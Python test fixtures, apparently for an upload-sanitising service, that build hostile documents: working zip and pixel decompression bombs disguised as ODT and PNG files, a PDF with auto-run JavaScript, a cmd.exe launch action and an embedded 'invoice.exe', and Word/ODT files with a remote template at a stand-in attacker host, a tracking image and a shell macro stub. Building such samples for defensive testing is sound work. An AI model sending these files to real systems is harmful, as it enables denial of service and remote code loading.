"""Real decompression bombs and hostile documents, built fast (used by the tests and benchmarks/uploads.py).

- `zip_bomb_odt(inflated)`: an OpenDocument text whose `mimetype` entry inflates to `inflated`
  bytes of zeros (1 GiB from about 1 MB). The deflate stream is one compressed MiB, ended by a
  full flush (so it is byte-aligned and independent), repeated: no need to compress 1 GiB.
- `pixel_bomb_png(w, h)`: a valid PNG of w×h black pixels, a few hundred KB for 10000×10000.
- `pdf_with_javascript()`: a one-page PDF with OpenAction JavaScript, a page AA action, a
  JavaScript name tree, an embedded file and document metadata.
- `docx(...)`: a Word document with metadata, and optionally a remote template or a macro.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

MIB = 1024 * 1024
GIB = 1024 * MIB
# zlib.crc32 of 1 GiB of zeros (computed once; crc_of_zeros(GIB) gives the same, in ~1 s).
CRC_GIB_ZEROS = 0x5B64C2B0

ODT = "application/vnd.oasis.opendocument.text"


def _zero_mib_deflated() -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(bytes(MIB)) + c.flush(zlib.Z_FULL_FLUSH)


def crc_of_zeros(n: int) -> int:
    crc, block = 0, bytes(MIB)
    while n:
        step = min(n, MIB)
        crc = zlib.crc32(block[:step], crc)
        n -= step
    return crc


def deflated_zeros(inflated: int) -> bytes:
    """A raw deflate stream of `inflated` zero bytes (a multiple of 1 MiB)."""
    assert inflated % MIB == 0
    return _zero_mib_deflated() * (inflated // MIB) + b"\x03\x00"     # + an empty final block


def _zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip from (name, data, method, crc, uncompressed size) with the given (claimed) sizes."""
    out, central = io.BytesIO(), []
    for name, data, method, crc, size in entries:
        offset = out.tell()
        raw = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0))
        out.write(raw)
        out.write(data)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data),
                                   size, len(raw), 0, 0, 0, 0, 0, offset) + raw)
    start = out.tell()
    for c in central:
        out.write(c)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def zip_bomb_odt(inflated: int = GIB) -> bytes:
    """An ODT whose `mimetype` entry inflates to `inflated` bytes (as in the attack on the site)."""
    crc = CRC_GIB_ZEROS if inflated == GIB else crc_of_zeros(inflated)
    content = b'<?xml version="1.0"?><office:document-content/>'
    return _zip([
        ("mimetype", deflated_zeros(inflated), zipfile.ZIP_DEFLATED, crc, inflated),
        ("content.xml", content, zipfile.ZIP_STORED, zlib.crc32(content), len(content)),
    ])


def lying_zip_odt(inflated: int = 64 * MIB) -> bytes:
    """An ODT whose `content.xml` claims 100 bytes but inflates to `inflated` (a lying directory)."""
    mimetype = ODT.encode()
    return _zip([
        ("mimetype", mimetype, zipfile.ZIP_STORED, zlib.crc32(mimetype), len(mimetype)),
        ("content.xml", deflated_zeros(inflated), zipfile.ZIP_DEFLATED, 0, 100),
    ])


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_bomb_png(width: int, height: int) -> bytes:
    """A valid w×h 8-bit RGB PNG of black pixels, built without holding its pixels."""
    row = bytes(1 + 3 * width)                       # filter byte 0 + black pixels
    rows_per_block = max(1, MIB // len(row))
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(row * rows_per_block) + c.flush(zlib.Z_FULL_FLUSH)
    full, rest = divmod(height, rows_per_block)
    c2 = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = c2.compress(row * rest) + c2.flush(zlib.Z_FINISH) if rest else b"\x03\x00"
    total = len(row) * height
    adler = ((total % 65521) << 16) | 1              # Adler-32 of `total` zero bytes
    idat = b"\x78\xda" + block * full + tail + struct.pack(">I", adler)
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def pdf_with_javascript() -> bytes:
    import pikepdf
    pdf = pikepdf.new()
    pdf.add_blank_page()
    js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('pwned');")))
    pdf.Root.OpenAction = js
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                                  JS=pikepdf.String("this.exportDataObject();")))
    embedded = pikepdf.AttachedFileSpec(pdf, b"MZ evil program", filename="invoice.exe")
    pdf.attachments["invoice.exe"] = embedded
    pdf.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), js]))
    annot = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 100, 100]),
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))))
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annot]))
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = ["Secret Author"]
    pdf.docinfo["/Author"] = "Secret Author"
    pdf.docinfo["/Title"] = "Rapport de Mme Secret"
    out = io.BytesIO()
    pdf.save(out)
    data = out.getvalue()
    assert b"JavaScript" in data and b"Secret Author" in data
    return data


CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 'wordprocessingml.document.main+xml"/></Types>')
CORE = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><cp:coreProperties '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Secret Author</dc:creator>'
        '<cp:lastModifiedBy>Dr Secret</cp:lastModifiedBy></cp:coreProperties>')
APP = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties '
       'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
       '<Company>Secret Company</Company><Template>Normal.dotm</Template></Properties>')
TEMPLATE_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 'attachedTemplate" Target="http://evil.example/template.dotm" TargetMode="External"/>'
                 '</Relationships>')
SETTINGS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings '
            'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>')
REMOTE_IMAGE_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                     'image" Target="http://evil.example/track.png" TargetMode="External"/>'
                     '<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                     'hyperlink" Target="https://www.service-public.fr/" TargetMode="External"/>'
                     '</Relationships>')


def docx(*, template: bool = False, macro: bool = False, remote_image: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>')
        z.writestr("word/document.xml", '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
                                        '2006/main"><w:body><w:p><w:r><w:t>Bonjour</w:t></w:r></w:p></w:body>'
                                        '</w:document>')
        z.writestr("docProps/core.xml", CORE)
        z.writestr("docProps/app.xml", APP)
        if template:
            z.writestr("word/settings.xml", SETTINGS)
            z.writestr("word/_rels/settings.xml.rels", TEMPLATE_RELS)
        if macro:
            z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
        if remote_image:
            z.writestr("word/_rels/document.xml.rels", REMOTE_IMAGE_RELS)
    return out.getvalue()


def odt(*, macro: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), ODT, compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
                                  'office:1.0"><office:body><office:text>Bonjour</office:text></office:body>'
                                  '</office:document-content>')
        z.writestr("meta.xml", '<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
                               '<office:meta><meta:initial-creator>Secret Author</meta:initial-creator>'
                               '</office:meta></office:document-meta>')
        z.writestr("META-INF/manifest.xml", "<manifest/>")
        if macro:
            z.writestr("Basic/Standard/Module1.xml", "<script>Shell(\"cmd\")</script>")
    return out.getvalue()
